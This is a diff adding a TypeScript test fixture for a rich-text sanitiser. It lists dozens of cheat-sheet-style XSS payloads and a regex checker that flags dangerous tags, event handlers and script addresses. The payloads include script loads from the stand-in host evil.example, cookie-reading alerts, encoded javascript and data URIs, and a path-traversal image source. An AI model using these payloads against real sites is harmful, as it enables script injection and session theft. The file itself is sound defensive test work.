@@ -1,0 +1,97 @@
+/**
+ * Known XSS payloads in the style of the OWASP XSS filter evasion cheat sheet: script tags in many
+ * spellings, event handlers, `javascript:` and `data:` addresses hidden by case, entities, white
+ * space and encodings, styles, frames, objects, SVG and MathML, forms and broken markup. Rich-text
+ * tests run each through the sanitiser and the save calls, and check what comes out with
+ * `looksDangerous`.
+ */
+export const xssPayloads: string[] = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>',
+  '<script/src="https://evil.example/x.js"></script>',
+  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<IMG SRC="javascript:alert(\'XSS\');">',
+  '<IMG SRC=JaVaScRiPt:alert(1)>',
+  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
+  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
+  '<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#39;&#88;&#83;&#83;&#39;&#41;>',
+  '<IMG SRC=&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A&#x61&#x6C&#x65&#x72&#x74&#x28&#x27&#x58&#x53&#x53&#x27&#x29>',
+  '<IMG SRC="jav\tascript:alert(\'XSS\');">',
+  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
+  '<IMG SRC="jav&#x0A;ascript:alert(\'XSS\');">',
+  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
+  '<img src=x onerror=alert(1)>',
+  '<img src="/files/upload/11/a.png" onerror="alert(1)">',
+  '<img src="/files/upload/11/a.png" onload=alert(1) style="width:expression(alert(1))">',
+  '<IMG DYNSRC="javascript:alert(\'XSS\')">',
+  '<IMG LOWSRC="javascript:alert(\'XSS\')">',
+  "<BODY ONLOAD=alert('XSS')>",
+  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
+  '<svg onload=alert(1)>',
+  '<svg><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
+  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
+  '<iframe src="javascript:alert(1)"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<IFRAME SRC=# onmouseover="alert(document.cookie)"></IFRAME>',
+  '<FRAMESET><FRAME SRC="javascript:alert(\'XSS\');"></FRAMESET>',
+  '<object data="javascript:alert(1)"></object>',
+  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
+  '<a href="javascript:alert(1)">点我</a>',
+  '<a href="JAVASCRIPT:alert(1)">点我</a>',
+  '<a href="  javascript:alert(1)">点我</a>',
+  '<a href="java&#x0D;script:alert(1)">点我</a>',
+  '<a href="&#x6A;avascript:alert(1)">点我</a>',
+  '<a href="vbscript:msgbox(1)">点我</a>',
+  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">点我</a>',
+  '<a href="//evil.example/">协议相对</a>',
+  '<a href="https://example.com" onclick="alert(1)">外链</a>',
+  '<a href="https://example.com" style="position:fixed;top:0;left:0;width:100%;height:100%">覆盖</a>',
+  '<div style="background-image: url(javascript:alert(\'XSS\'))">x</div>',
+  '<div style="width: expression(alert(\'XSS\'));">x</div>',
+  "<STYLE>@import'https://evil.example/xss.css';</STYLE>",
+  '<STYLE>BODY{-moz-binding:url("https://evil.example/xssmoz.xml#xss")}</STYLE>',
+  '<LINK REL="stylesheet" HREF="javascript:alert(\'XSS\');">',
+  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
+  '<BASE HREF="javascript:alert(\'XSS\');//">',
+  '<TABLE BACKGROUND="javascript:alert(\'XSS\')"><TR><TD>x</TD></TR></TABLE>',
+  '<TD BACKGROUND="javascript:alert(\'XSS\')">x</TD>',
+  '<form action="javascript:alert(1)"><input type="submit"></form>',
+  '<button formaction="javascript:alert(1)">x</button>',
+  '<input onfocus=alert(1) autofocus>',
+  '<details open ontoggle=alert(1)>',
+  '<marquee onstart=alert(1)>x</marquee>',
+  '<video><source onerror="alert(1)"></video>',
+  '<audio src=x onerror=alert(1)>',
+  '<p onmouseover="alert(1)">悬停</p>',
+  '<h2 id="x" class="y" onclick="alert(1)">标题</h2>',
+  '<!--<img src="--><img src=x onerror=alert(1)//">',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<xss id=x tabindex=1 onfocusin=alert(1)></xss>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  '<template><script>alert(1)</script></template>',
+  '<img src="https://tracker.example/pixel.gif">',
+  '<img src="/files/../../etc/passwd">',
+  '"><script>alert(document.cookie)</script>',
+  "'><img src=x onerror=alert(1)>",
+  '<a href="/blog/article/1" target="_blank">站内</a>',
+];
+
+/** What must never come out of the sanitiser; operators' text may show pictures from anywhere. */
+export function looksDangerous(html: string, { ownPicturesOnly = true } = {}): string | undefined {
+  const checks: [RegExp, string][] = [
+    [/<\s*script/i, 'script tag'],
+    [
+      /<\s*(iframe|frame|frameset|object|embed|applet|base|meta|link|style|form|input|button|svg|math|template|noscript)\b/i,
+      'forbidden tag',
+    ],
+    [/\son[a-z]+\s*=/i, 'event attribute'],
+    [/\sstyle\s*=/i, 'style attribute'],
+    [/\s(srcdoc|formaction|background|dynsrc|lowsrc|xlink:href)\s*=/i, 'dangerous attribute'],
+    [/(href|src)\s*=\s*["']?\s*(javascript|vbscript|data):/i, 'script address'],
+    [/(href|src)\s*=\s*["']?\s*\/\//i, 'protocol-relative address'],
+  ];
+  if (ownPicturesOnly) checks.push([/<img\b(?![^>]*src="\/files\/)/i, 'picture from outside our storage']);
+  return checks.find(([pattern]) => pattern.test(html))?.[1];
+}
